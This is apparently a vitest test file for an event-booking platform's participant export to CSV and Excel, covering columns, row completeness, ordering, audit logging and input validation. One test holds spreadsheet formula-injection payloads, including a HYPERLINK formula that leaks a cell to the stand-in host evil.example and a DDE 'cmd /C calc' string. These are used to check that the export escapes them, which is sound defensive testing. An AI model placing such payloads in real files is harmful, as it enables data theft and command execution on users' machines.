import { parse } from "csv-parse/sync";
import { sql } from "kysely";
import readWorkbook from "read-excel-file/node";
import { expect, test } from "vitest";
import { createApiToken } from "#booking/organizers/keep-api-tokens.ts";
import { newRowId } from "#platform/ids.ts";
import { anEventOnSale } from "#tests/builders/event-on-sale.ts";
import { confirmMany } from "#tests/builders/large-event.ts";
import { anOrganizersApi } from "#tests/builders/organizers-api.ts";
import { aSaleByApi, idOf } from "#tests/builders/published-event.ts";

const opened = await anOrganizersApi();
const { door, organizer } = opened;

const { anEventOf, aConfirmedVisitor } = aSaleByApi(opened);

/** The file as another program reads it. */
async function exported(slug: string, query = ""): Promise<{ text: string; header: string[]; rows: string[][] }> {
  const reply = await door(`/api/admin/events/${slug}/participants.csv?${query}`, { headers: organizer.headers });
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await reply.arrayBuffer());
  const [header = [], ...rows] = parse(text, { bom: true });
  return { text, header, rows };
}

test("the export is UTF-8 with a byte order mark, and has all that the organizer needs of each participant", async () => {
  const event = await anEventOf({
    questions: [{ id: "", label: "Jersey size", options: ["S", "M"], isRequired: false }],
  });
  await aConfirmedVisitor(event, {
    name: "मीरा जोशी",
    phone: "+919812300003",
    email: "m@club.example",
    answers: { [idOf(event.questions)]: "M" },
  });

  const { text, header, rows } = await exported(event.slug);
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const row = Object.fromEntries(header.map((name, index) => [name, rows[0]?.[index]]));
  expect(row).toMatchObject({
    State: "Confirmed",
    Category: "100 km",
    Name: "मीरा जोशी",
    Phone: "91 98123 00003",
    Email: "m@club.example",
    Language: "English",
    "Paid online (rupees)": "1525",
    "Of which Startline's fee (rupees)": "25",
    "Waiver signed, version": "1",
    "Number in the queue": "1",
    "Jersey size": "M",
    "Answers to earlier questions": "",
  });
  expect(row.Reference).toMatch(/^\w{4}-\w{4}$/);
  expect(row["Payment at Razorpay"]).toMatch(/^pay_/);
  expect(row["Confirmed at (India time)"]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
});

test("no cell of the export can be run as a formula", async () => {
  const event = await anEventOf({ questions: [{ id: "", label: "=Note", isRequired: false }] });
  await aConfirmedVisitor(event, {
    name: '=HYPERLINK("http://evil.example?"&A1,"Asha")',
    answers: { [idOf(event.questions)]: "@SUM(1+1)*cmd|' /C calc'!A0" },
  });
  await aConfirmedVisitor(event, { name: "-2+3 Asha", answers: { [idOf(event.questions)]: "+1" } });

  const { header, rows } = await exported(event.slug);
  const cells = [...header, ...rows.flat()];
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  expect(cells).toContain(`'=HYPERLINK("http://evil.example?"&A1,"Asha")`);
});

test("the export has every row exactly once, however many reads it takes", async () => {
  const event = await anEventOf({
    capacity: 5000,
    categories: [{ id: null, name: "100 km", capacity: 5000, ticketPricePaise: 1000 }],
  });
  const wanted = 1203;
  const ids = Array.from({ length: wanted }, () => newRowId("bkg", event.id));
  // Many share a microsecond, so that only the id tells them apart.
  await sql`INSERT INTO bookings (event_id, id, category_id, reference, state, ticket_id, amount_paise, platform_fee_paise,
      hold_expires_at, kept_until, created_at, confirmed_at)
    SELECT ${event.id}, b, ${idOf(event.categories)}, b, CASE WHEN n % 3 = 0 THEN 'released' ELSE 'confirmed' END, b, 3500, 2500, now(), now(),
      timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond',
      CASE WHEN n % 3 = 0 THEN NULL ELSE timestamptz '2026-11-22 10:00:00.123456Z' + (n / 700) * interval '1 microsecond' END
    FROM unnest(${ids}::text[]) WITH ORDINALITY AS u (b, n)`.execute(opened.startline.db);

  const all = await exported(event.slug, "all=1&columns=reference,state");
  expect(new Set(all.rows.map((row) => row[0])).size).toBe(wanted);
  expect(all.rows).toHaveLength(wanted);
  const confirmed = await exported(event.slug, "columns=reference,state");
  expect(confirmed.rows).toHaveLength(802);
  expect(new Set(confirmed.rows.map((row) => row[1]))).toEqual(new Set(["Confirmed"]));
});

async function entriesOf(slug: string) {
  const { entries } = (await organizer.ask("GET", `/api/admin/events/${slug}/audit-log`)).body;
  return entries.filter(({ action }: { action: string }) => action === "download_riders");
}

test("a list has the columns and the riders that were chosen, by bib those without one at the end", async () => {
  const event = await anEventOnSale(opened.startline, {
    capacity: 600,
    categories: [
      { id: "cat_far", capacity: 500 },
      { id: "cat_near", capacity: 100 },
    ],
  });
  await confirmMany(opened.startline.db, event, 520);
  await sql`UPDATE bookings SET bib_number = 2000 - queue_number, category_id = CASE WHEN queue_number > 510 THEN 'cat_near' ELSE category_id END
    WHERE event_id = ${event.id} AND queue_number > 5`.execute(opened.startline.db);

  const { header, rows } = await exported(event.slug, "columns=reference,bib,name&order=bib");
  expect(header).toEqual(["Bib", "Name", "Reference"]);
  expect(rows.map(([bib]) => bib)).toEqual([
    ...Array.from({ length: 515 }, (_, index) => String(1480 + index)),
    ...Array(5).fill(""),
  ]);
  expect(rows.slice(-5).map(([, name]) => name)).toEqual([1, 2, 3, 4, 5].map((n) => `Rider ${n}`));
  expect((await exported(event.slug, "columns=bib&category=cat_near&order=bib")).rows).toHaveLength(10);
  expect((await exported(event.slug, "columns=name&state=cancelled")).rows).toEqual([]);
});

test("a workbook of the same list is read by another program", async () => {
  const event = await anEventOf();
  await aConfirmedVisitor(event, { name: "Asha Rao" });
  const path = `/api/admin/events/${event.slug}/participants.xlsx?columns=bib,name,phone`;
  const reply = await door(path, { headers: organizer.headers });
  expect(reply.headers.get("content-disposition")).toMatch(/-riders-\d{4}-\d{2}-\d{2}\.xlsx"$/);
  const [sheet] = await readWorkbook(Buffer.from(await reply.arrayBuffer()));
  expect(sheet?.data).toEqual([
    ["Bib", "Name", "Phone"],
    [null, "Asha Rao", expect.stringMatching(/^\+91\d{10}$/)],
  ]);
});

test("who downloads which list is in the history before its first row leaves, also by a token", async () => {
  const event = await anEventOf();
  await aConfirmedVisitor(event);
  const category = idOf(event.categories);
  await exported(event.slug, `columns=name,phone&category=${category}`);
  const token = await createApiToken(opened.startline, "timing", event.id);
  const path = `/api/admin/events/${event.slug}/participants.xlsx?all=1`;
  const reply = await door(path, { headers: { authorization: `Bearer ${token}` } });
  await reply.body?.cancel();

  expect(await entriesOf(event.slug)).toMatchObject([
    { by: "API token timing", facts: { format: "xlsx", columns: 20, rows: 1, state: null, category: null } },
    {
      by: organizer.account.email,
      facts: { format: "csv", columns: 2, rows: 1, state: "confirmed", category: "100 km" },
    },
  ]);
});

test("a column or a category that the event does not have is refused, and nothing is written down", async () => {
  const event = await anEventOf();
  for (const [query, code] of [
    ["columns=name,shoe", "unknown_column"],
    ["columns=", "no_column"],
    ["category=cat_none", "unknown_category"],
  ] as const) {
    const { status, body } = await organizer.ask("GET", `/api/admin/events/${event.slug}/participants.csv?${query}`);
    expect([status, body.errors]).toMatchObject([422, [{ code }]]);
  }
  expect(await entriesOf(event.slug)).toEqual([]);
});
